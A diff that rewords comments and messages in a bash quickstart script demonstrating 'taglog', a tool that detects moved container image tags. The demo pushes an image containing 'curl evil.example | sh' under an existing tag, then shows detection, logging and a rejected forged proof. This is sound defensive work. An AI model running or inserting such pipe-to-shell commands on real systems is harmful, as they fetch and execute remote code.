@@ -1,9 +1,9 @@
 #!/usr/bin/env bash
-# Plays the attack that taglog is for, on this machine, with a real registry and real images.
+# Demonstrates on this machine how taglog detects a moved tag, with a real registry and real images.
 #
 #   deploy/quickstart.sh [--once] [--programs DIR | --prebuilt | --from-source]
 #
-#   --once          stops everything at the end; otherwise the log is left running, and the script says where
+#   --once          stops everything at the end; otherwise the log is left running, and the script prints its address
 #   --programs DIR  takes taglog and taglog-server from DIR instead of building them
 #   --prebuilt, --from-source   which RocksDB they are built with: see deploy/prepare.sh
 set -euo pipefail
@@ -27,7 +27,7 @@ if [ -n "$bin" ]; then
 else
   prepare "${rocksdb[@]}"
   say "Building taglog and taglog-server (minutes the first time)"
-  # The profile that the tests use too, so that dependencies are compiled once.
+  # The same profile as for the tests, so that dependencies are compiled once.
   cargo build --locked -p taglog -p taglog-server
   bin="$CARGO_TARGET_DIR/debug"
 fi
@@ -65,17 +65,17 @@ rm -rf "$home"
 mkdir -p "$home/play"
 trap finish EXIT
 
-# wait_for WHAT COMMAND...: until the command succeeds, for 30 seconds at most.
+# wait_for WHAT COMMAND...: waits until the command succeeds, for 30 seconds at most.
 wait_for() {
   local what="$1" end=$((SECONDS + 30))
   shift
   until "$@" >/dev/null 2>&1; do
-    [ "$SECONDS" -lt "$end" ] || fail "$what did not come up"
+    [ "$SECONDS" -lt "$end" ] || fail "$what did not start"
     sleep 0.1
   done
 }
 
-# show COMMAND...: prints a command as one would type it, then runs it.
+# show COMMAND...: prints a command as a user would type it, then runs it.
 show() { printf '\033[36m$ %s\033[0m\n' "${*/#$bin\//}"; "$@"; }
 
 # expect CODE COMMAND...: shows a command that must end with this exit code.
@@ -83,7 +83,7 @@ expect() {
   local want="$1" got=0
   shift
   show "$@" || got=$?
-  [ "$got" -eq "$want" ] || fail "that should have ended with exit code $want, not $got"
+  [ "$got" -eq "$want" ] || fail "the last command should have ended with exit code $want, not $got"
   printf '(exit code %s)\n' "$got"
 }
 
@@ -99,7 +99,7 @@ YAML
   docker-registry serve "$home/play/registry.yml" >"$home/play/registry.log" 2>&1 &
   registry_pid=$!
   wait_for "the registry" curl -sf "http://127.0.0.1:$port/v2/"
-  # A port that somebody else has answers too; ours must still run.
+  # Another program's port may answer too, so check that this registry runs.
   kill -0 "$registry_pid" 2>/dev/null
 }
 start_registry || start_registry || fail "the registry does not start: $(cat "$home/play/registry.log")"
@@ -157,32 +157,32 @@ say "Day 1: harmless:1.0 is published, and a witness reports what it sees"
 push 'echo "I am harmless"'
 show "$bin/taglog" observe "$image"
 
-say "Someone is about to deploy it: the tag has only ever been this digest, which is as new as its only sighting"
+say "Before a deploy: the tag has only ever pointed to this digest, and is new"
 expect 0 "$bin/taglog" verify "$image"
 show "$bin/taglog" verify --print-digest "$image"
 
 say "Day 2: whoever holds the account pushes different content under the same tag"
 push 'curl evil.example | sh'
 
-say "Nobody has reported it yet, and it is caught already: no witness has ever seen this digest"
+say "No witness has reported it yet, and it is detected already: no witness has ever seen this digest"
 expect 1 "$bin/taglog" verify "$image"
 
-say "The witness looks again; the move is now on record for ever"
+say "The witness resolves the tag again; from now on the move is in the log"
 show "$bin/taglog" observe "$image"
 expect 1 "$bin/taglog" verify --save "$home/play/harmless.tagproof" "$image"
 show "$bin/taglog" history "$image"
 
-say "The proof needs no network, and no trust in the log: anyone can check it"
+say "The proof needs neither network nor trust in the log: anyone can check it"
 expect 1 env -u TAGLOG_LOG "$bin/taglog" verify --offline "$home/play/harmless.tagproof"
 
-say "A copy in which the first digest is replaced by the second, as the attacker would like it"
+say "A forged copy of the proof, in which the second digest replaces the first"
 first="$("$bin/taglog" history "$image" | sed -n '2s/.*sha256:\([0-9a-f]*\).*/\1/p')"
 second="$("$bin/taglog" history "$image" | sed -n '3s/.*sha256:\([0-9a-f]*\).*/\1/p')"
 [ -n "$first" ] && [ -n "$second" ] && [ "$first" != "$second" ] || fail "the history does not show two digests"
 sed "/beside-proofs/d; s/$first/$second/g" "$home/play/harmless.tagproof" >"$home/play/tampered.tagproof"
 expect 4 "$bin/taglog" verify --offline "$home/play/tampered.tagproof"
 
-say "A deployment names the image; the job that checks it fails, and says where"
+say "A Compose file names the image; its check fails, and says where"
 cat >"$home/play/compose.yaml" <<YAML
 services:
   job:
@@ -191,8 +191,8 @@ YAML
 cd "$home/play"
 expect 1 "$bin/taglog" verify -f compose.yaml
 
-say "If a person has looked, and the new content is wanted after all: exactly that digest passes, and the lock file says why"
-expect 0 "$bin/taglog" approve "$image@sha256:$second" --reason "looked at it: the new release, ticket 42" --by you
+say "If a person has reviewed the new content and wants it, exactly that digest passes, and the lock file says why"
+expect 0 "$bin/taglog" approve "$image@sha256:$second" --reason "reviewed: the new release, ticket 42" --by you
 cat taglog.lock
 expect 0 "$bin/taglog" verify -f compose.yaml
 expect 1 "$bin/taglog" verify "$image@sha256:$first"
@@ -200,7 +200,7 @@ expect 0 "$bin/taglog" pin -f compose.yaml
 cat compose.yaml
 cd "$OLDPWD"
 
-say "Done: the retag was caught, is on record, and cannot be denied"
+say "Done: the retag was detected, is in the log, and can be proved to anyone"
 if [ -z "$once" ]; then
   echo "The log still runs: $address (process $(cat "$home/server.pid")). Try"
   echo "  export TAGLOG_TRUST=$home/trust TAGLOG_STATE=$home/state"
